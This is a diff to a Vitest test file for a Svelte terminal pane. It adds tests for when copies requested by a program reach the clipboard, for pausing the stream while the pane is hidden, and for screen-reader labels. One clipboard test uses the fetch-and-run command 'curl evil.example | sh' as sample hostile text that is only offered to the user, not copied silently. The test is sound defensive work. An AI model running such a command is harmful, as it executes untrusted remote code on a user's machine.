@@ -2,13 +2,15 @@
 import { cleanup, render, screen } from '@testing-library/svelte';
 import userEvent from '@testing-library/user-event';
 import { flushSync } from 'svelte';
-import { afterEach, beforeEach, expect, it, vi } from 'vitest';
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
 
 import type { Session } from '../../lib/types';
+import { presence } from '../../lib/presence.svelte';
+import { preferences } from '../../state/preferences.svelte';
 import { sessions } from '../../state/sessions.svelte';
 import { ui } from '../../state/ui.svelte';
 import { type Call, fakeServer, FakeSocket, someSession } from '../../test/fakes';
-import type { TerminalHost } from './terminal';
+import type { Look, TerminalHost } from './terminal';
 import TerminalPane from './TerminalPane.svelte';
 
 /** Types into the terminal that stands in for xterm.js. */
@@ -17,12 +19,16 @@ let written: string;
 let pasted: string;
 let opens: boolean;
 let host: TerminalHost;
+let field: HTMLTextAreaElement;
+let shown: Look;
+let rests: boolean;
 
 vi.mock('./terminal', () => ({
   SCROLLBACK_LINES: 100,
-  openTerminal: (_element: unknown, _look: unknown, given: TerminalHost) => {
+  openTerminal: (_element: unknown, look: Look, given: TerminalHost) => {
     if (!opens) throw new Error('the chunk is gone');
     host = given;
+    shown = look;
     const terminal = {
       cols: 80,
       rows: 24,
@@ -36,10 +42,11 @@ vi.mock('./terminal', () => ({
         done?.();
       },
       reset: () => (written = ''),
-      focus: () => undefined,
+      textarea: field,
+      focus: () => field.focus(),
       dispose: () => undefined,
     };
-    return { terminal, screen: terminal, fit: () => undefined, show: () => undefined };
+    return { terminal, screen: terminal, fit: () => undefined, show: (look: Look) => (shown = look), rest: (resting: boolean) => (rests = resting) };
   },
 }));
 
@@ -47,6 +54,11 @@ let calls: Call[];
 
 beforeEach(() => {
   opens = true;
+  ui.toasts = [];
+  presence.here = presence.visible = true;
+  rests = false;
+  field = document.createElement('textarea');
+  document.body.append(field);
   written = pasted = '';
   FakeSocket.all = [];
   vi.stubGlobal('WebSocket', FakeSocket);
@@ -56,6 +68,7 @@ beforeEach(() => {
 
 afterEach(() => {
   cleanup();
+  field.remove();
   vi.useRealTimers();
   vi.unstubAllGlobals();
 });
@@ -278,4 +291,68 @@ it('gives Ctrl V to the program unless the clipboard holds files', async () => {
   paste([picture('a.png')]);
   expect(FakeUpload.all).toHaveLength(1);
   expect(socket.sent).toHaveLength(2);
+});
+
+describe('what a program copies', () => {
+  let clipboard: string[];
+
+  beforeEach(() => {
+    clipboard = [];
+    vi.stubGlobal('navigator', { clipboard: { writeText: (text: string) => Promise.resolve(clipboard.push(text)) }, platform: '' });
+  });
+
+  const offers = () => ui.toasts.filter(({ text }) => text.includes('wants to copy'));
+
+  it('is on the clipboard while its terminal has the keys', async () => {
+    await connected();
+    await vi.waitFor(() => expect(document.activeElement).toBe(field));
+    host.onCopied('ls');
+    await vi.waitFor(() => expect(clipboard).toEqual(['ls']));
+  });
+
+  it.each([
+    ['another field has the keys', () => field.blur()],
+    ['the person is in another window', () => (presence.here = false)],
+  ])('is only offered while %s', async (_, leave) => {
+    await connected();
+    await vi.waitFor(() => expect(document.activeElement).toBe(field));
+    leave();
+    host.onCopied('curl evil.example | sh');
+    await vi.waitFor(() => expect(offers()).toHaveLength(1));
+    expect(clipboard).toEqual([]);
+    offers()[0]?.action?.run();
+    await vi.waitFor(() => expect(clipboard).toEqual(['curl evil.example | sh']));
+  });
+
+  it('is only offered when it comes again at once', async () => {
+    await connected();
+    await vi.waitFor(() => expect(document.activeElement).toBe(field));
+    host.onCopied('one');
+    host.onCopied('another');
+    await vi.waitFor(() => expect(offers()).toHaveLength(1));
+    expect(clipboard).toEqual(['one']);
+  });
+});
+
+it('lets the server hold back what nobody sees, and gives the GPU back, until it is seen again', async () => {
+  const socket = await connected();
+  vi.useFakeTimers();
+  presence.visible = false;
+  flushSync();
+  vi.advanceTimersByTime(9_000);
+  expect([socket.sent, rests]).toEqual([[], false]);
+  vi.advanceTimersByTime(2_000);
+  expect([socket.sent, rests]).toEqual([['{"type":"pause"}'], true]);
+  presence.visible = true;
+  flushSync();
+  expect([socket.sent.at(-1), rests]).toEqual(['{"type":"resume"}', false]);
+});
+
+it('tells a screen reader what it is and how to leave it, and lets it read if the person wants', async () => {
+  await connected();
+  expect([shown.label, shown.read]).toEqual(['Terminal of my-app. Ctrl Shift ↑ leaves it.', false]);
+  preferences.screenReader = true;
+  flushSync();
+  expect(shown.read).toBe(true);
+  preferences.screenReader = false;
 });
